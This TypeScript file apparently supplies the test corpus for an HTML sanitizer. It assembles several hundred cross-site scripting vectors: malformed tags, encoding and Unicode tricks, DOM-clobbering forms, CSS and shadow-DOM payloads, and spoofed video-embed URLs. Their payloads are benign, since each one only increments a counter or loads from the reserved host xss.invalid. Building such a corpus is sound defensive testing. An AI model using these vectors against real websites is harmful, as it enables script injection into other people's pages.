// Markup that runs a script or asks a foreign host for something where it is shown as it is. RUN counts in
// window.__xss, HOST is xss.invalid, \uXXXX is that character; one vector per line.
import { addressVectors } from './xss-addresses.ts'
import { handlerVectors } from './xss-handlers.ts'
import { mutationVectors } from './xss-mutations.ts'

const RUN = 'window.__xss=(window.__xss||0)+1'
const HOST = 'xss.invalid'

const brokenMarkup = String.raw`
<img src="x" onerror="RUN"
<img src=x onerror=RUN//
<img src='x' alt='"' onerror='RUN'>
<img """><script>RUN</script>">
<img src=\u0060x\u0060 onerror=\u0060RUN\u0060>
<img src="x"onerror="RUN"alt="x">
<img =x src=x onerror=RUN>
<img / / src=x / onerror=RUN / >
<a href="x" title="><img src=x onerror=RUN>">x</a>
<a href='x' title='"><img src=x onerror=RUN>'>x</a>
<a title="&quot;><img src=x onerror=RUN>" href="&quot;onmouseover=RUN x=&quot;">x</a>
<a href=/x"onmouseover=RUN>x</a>
<a href="/x" href="javascript:RUN">x</a>
<a HREF="javascript:RUN" href="/x">x</a>
<a href="/\u0022onmouseover=RUN//">x</a>
<img alt="</p><script>RUN</script>" src="/images/a.webp">
<img alt="&quot; onload=RUN x=&quot;" src="/images/a.webp">
<img src="/images/a.webp&quot; onload=&quot;RUN">
<span class="colour-red&quot; onclick=&quot;RUN">x</span>
<span class='colour-red"><img src=x onerror=RUN>'>x</span>
<td colspan='2" onmouseover="RUN'>x</td>
<ol start="1&quot;><img src=x onerror=RUN>"><li>x</ol>
<\u0000img src=x onerror=RUN>
<img src=x o\u0000nerror=RUN>
<img src=x onerror\u0000=RUN>
<img\u00a0src=x onerror=RUN>
<img\u2028src=x onerror=RUN>
\uff1cimg src=x onerror=RUN\uff1e<img src=x onerror=RUN>
\u00bcscript\u00beRUN\u00bc/script\u00be<img src=x onerror=RUN>
+ADw-script+AD4-RUN+ADw-/script+AD4-<img src=x onerror=RUN>
%3Cimg src=x onerror=RUN%3E<img src=x onerror=RUN>
&lt;img src=x onerror=RUN&gt<img src=x onerror=RUN>
&#60img src=x onerror=RUN&#62<img src=x onerror=RUN>
&amp;lt;img src=x onerror=RUN&amp;gt;<img src=x onerror=RUN>
&#xd800;<img src=x onerror=RUN>&#xdfff;
\ud800<img src=x onerror=RUN>\udc00
&#x110000;&#0;&#x80;<img src=x onerror=RUN>
\ufeff<img src=x onerror=RUN>
\u202e<img src=x onerror=RUN>
<p<img src=x onerror=RUN>
<p/<img src=x onerror=RUN>
<<img src=x onerror=RUN>
<div<div<img src=x onerror=RUN>>
<p><<p>img src=x onerror=RUN>
<p <p id=<img src=x onerror=RUN>>
`
  .trim()
  .split('\n')

const NAMES =
  'body attributes parentNode childNodes nodeName innerHTML forms cookie domain getElementById __proto__'
const thatClobber = NAMES.split(' ').flatMap((name) => [
  `<form id="${name}"><input name="${name}"></form><img src=x onerror=RUN>`,
  `<a id="${name}" name="${name}" href="javascript:RUN">x</a>`,
  `<img id="${name}" name="${name}" src=x onerror=RUN>`,
])

const others = String.raw`
<p style="x:expression(RUN)">x</p>
<p style="behavior:url(http://HOST/x.htc)">x</p>
<p style="-moz-binding:url(http://HOST/x.xml#x)">x</p>
<p style="background:u\72l('http://HOST/x')">x</p>
<p style="background-image:image-set('http://HOST/x' 1x)">x</p>
<p style='content:"</style><img src=x onerror=RUN>"'>x</p>
<style>@import'http://HOST/x.css';</style>
<style>*{list-style:url(//HOST/x)}</style><ul><li>x</ul>
<style>@font-face{font-family:x;src:url(http://HOST/x)}p{font-family:x}</style><p>x</p>
<style>p{x:expression(RUN)}</style><p>x</p>
<style><img src="</style><img src=x onerror=RUN>">
<font face="x" style="position:fixed;inset:0" onclick=RUN>x</font>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<div><template shadowrootmode=closed><script>RUN</script></template></div>
<template><script>RUN</script></template>
<template><template></template><img src=x onerror=RUN></template>
<p is=x-p onclick=RUN>x</p>
<x-element onload=RUN><img src=x onerror=RUN></x-element>
<slot name=x onslotchange=RUN><img src=x onerror=RUN></slot>
<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.__xss=1&gt;"></iframe>
<iframe src="https://www.youtube.com.HOST/embed/dQw4w9WgXcQ"></iframe>
<iframe src="https://www.youtube.com@HOST/embed/dQw4w9WgXcQ"></iframe>
<iframe src="http://HOST/?https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>
<iframe src="https://youtu.be/dQw4w9WgXcQ" srcdoc="<script>parent.__xss=1</script>" onload=RUN></iframe>
<iframe src="https://youtu.be/dQw4w9WgXcQ"><img src=x onerror=RUN></iframe>
<a class="video" href="https://youtu.be/dQw4w9WgXcQ&quot; onclick=&quot;RUN" onclick=RUN>x</a>
<a class="video" href="https://vimeo.com/123456789/../../javascript:RUN"><img src=x onerror=RUN></a>
<p data-x="RUN" data-toggle=popover data-content="<img src=x onerror=RUN>">x</p>
<p aria-label="x" role=button tabindex=0 onkeydown=RUN accesskey=x>x</p>
<p contenteditable onbeforeinput=RUN>x</p>
<p popovertarget=x commandfor=x command=show-modal onclick=RUN>x</p>
<p nonce=x slot=x part=x inert hidden dir=rtl lang=x onclick=RUN>x</p>
<p xmlns="http://www.w3.org/2000/svg" onload=RUN>x</p>
<html xmlns:xss><?import namespace="xss" implementation="http://HOST/x.htc"><xss:xss>x</xss:xss>
<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:RUN">]]></c></x></xml>
<bgsound src="javascript:RUN"><layer src="http://HOST/x"></layer><ilayer src="http://HOST/x">
<img src=x onerror=RUN><b>unclosed <i>and <u>never <a href="/x">ended
`
  .trim()
  .split('\n')

const NESTED = [
  'b',
  'p',
  'div',
  'blockquote',
  'span class=colour-red',
  'ul><li',
  'table><tr><td',
  'svg',
  'math',
]
const deep = NESTED.map(
  (tag) => `${`<${tag}>`.repeat(600)}<img src=x onerror=RUN><a href=javascript:RUN>x</a>`,
)

const filled = (vector: string) =>
  vector
    .replaceAll('RUN', RUN)
    .replaceAll('HOST', HOST)
    .replace(/\\u([0-9a-f]{4})/g, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)))

/** None of them twice. */
export const xssVectors: string[] = [
  ...new Set(
    [
      ...handlerVectors,
      ...addressVectors,
      ...mutationVectors,
      ...brokenMarkup,
      ...thatClobber,
      ...others,
      ...deep,
    ].map(filled),
  ),
]
